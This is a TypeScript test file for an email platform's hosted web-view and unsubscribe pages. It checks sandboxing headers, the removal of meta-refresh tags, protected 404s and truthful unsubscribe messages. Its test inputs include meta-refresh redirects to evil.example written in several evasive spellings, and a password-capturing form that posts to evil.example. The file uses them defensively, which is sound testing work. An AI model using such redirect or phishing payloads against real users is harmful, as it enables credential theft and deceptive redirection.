import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, startTestApp, type TestApp } from './support/app.js';
import { BACKENDS } from './support/databases.js';

const REFRESH_TAGS = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<META HTTP-EQUIV=REFRESH CONTENT=0;URL=https://evil.example/>',
  "<meta content='0; url=https://evil.example/' http-equiv='Refresh'>",
  '<meta\n  http-equiv = " refresh "\n  content="0;url=https://evil.example/" />',
  '<meta http-equiv="&#114;efresh" content="0;url=https://evil.example/">',
];

describe.each(BACKENDS)('hosted pages on %s', (backend) => {
  let t: TestApp;
  let ws: { id: string; adminKey: string; key: string };

  beforeAll(async () => {
    t = await startTestApp({ backend });
    ws = await t.workspace();
  });
  afterAll(() => t?.close());

  const sendHtml = async (html: string) => {
    const sent = await call(`${t.url}/api/v1/send-email/async`, { key: ws.key, body: { to: 'a@example.test', subject: 'Hosted', html, track_opens: false, track_clicks: false } });
    expect(sent.status).toBe(200);
    return sent.body.id as string;
  };
  const viewUrl = (id: string) => `${t.url}/v/${t.app.services.tokens.sign('view', id)}`;
  const unsubscribeUrl = (id: string) => `${t.url}/u/${t.app.services.tokens.sign('unsubscribe', id)}`;

  const expectProtected = (res: Response) => {
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(csp).toContain("default-src 'none'");
    return csp.split(';').map((d) => d.trim());
  };

  it('serves tenant HTML sandboxed: no script, forms, popups, top navigation or framing', async () => {
    const id = await sendHtml('<p>Hi</p><form action="https://evil.example/login" method="post"><input type="password" name="p"></form><script>alert(1)</script>');
    const res = await fetch(viewUrl(id));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const directives = expectProtected(res);
    expect(directives).toContain('sandbox');
    expect(directives).toContain("form-action 'none'");
    expect(directives.some((d) => /allow-/.test(d))).toBe(false);
    expect(directives.some((d) => d.startsWith('script-src') && !d.includes("'none'"))).toBe(false);
    expect(directives).toContain('img-src https: data:');
  });

  it('removes refresh meta tags in several spellings and keeps the rest of the HTML', async () => {
    const rest = (inner: string) => `<html><head><meta name="viewport" content="width=device-width">${inner}</head><body><p style="color:red">Your order &amp; receipt</p><img src="https://cdn.example/a.png"></body></html>`;
    const id = await sendHtml(rest(REFRESH_TAGS.join('\n')));
    const res = await fetch(viewUrl(id));
    const html = await res.text();
    expect(html.toLowerCase()).not.toContain('refresh');
    expect(html.toLowerCase()).not.toContain('http-equiv');
    expect(html).toBe(rest(REFRESH_TAGS.map(() => '<!---->').join('\n')));
  });

  it('a text-only email is served as text with the same protection', async () => {
    const sent = await call(`${t.url}/api/v1/send-email/async`, { key: ws.key, body: { to: 'a@example.test', subject: 'Plain', text: 'just text' } });
    const res = await fetch(viewUrl(sent.body.id as string));
    expect(res.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(expectProtected(res)).toContain('sandbox');
    expect(await res.text()).toBe('just text');
  });

  it('the unsubscribe pages are protected and promise only what is true', async () => {
    // an email to several recipients: its link names none of them, so the request is only recorded (unsubscribe.test.ts has the rest)
    const sent = await call(`${t.url}/api/v1/send-email/async`, { key: ws.key, body: { to: ['a@example.test', 'b@example.test'], subject: 'Hosted', html: '<p>Newsletter</p>' } });
    const id = sent.body.id as string;
    const form = await fetch(unsubscribeUrl(id));
    expect(form.status).toBe(200);
    expect(expectProtected(form)).toContain("form-action 'self'");
    const done = await fetch(unsubscribeUrl(id), { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'List-Unsubscribe=One-Click' });
    expect(done.status).toBe(200);
    expectProtected(done);
    const text = await done.text();
    expect(text).toContain('recorded and passed on to the sender');
    expect(text).not.toMatch(/will not receive|unsubscribed/i);
    const email = await call(`${t.url}/api/v1/public/emails/get-email?id=${id}`, { key: ws.key });
    expect((email.body.data as { events: { type: string }[] }).events.map((e) => e.type)).toContain('unsubscribed');
  });

  it('an invalid or non-canonical token is a protected 404 page', async () => {
    const id = await sendHtml('<p>x</p>');
    for (const url of [`${viewUrl(id)}.junk`, `${viewUrl(id)}=`, `${t.url}/v/nope`, `${unsubscribeUrl(id)}.junk`]) {
      const res = await fetch(url);
      expect(res.status, url).toBe(404);
      expectProtected(res);
    }
  });
});
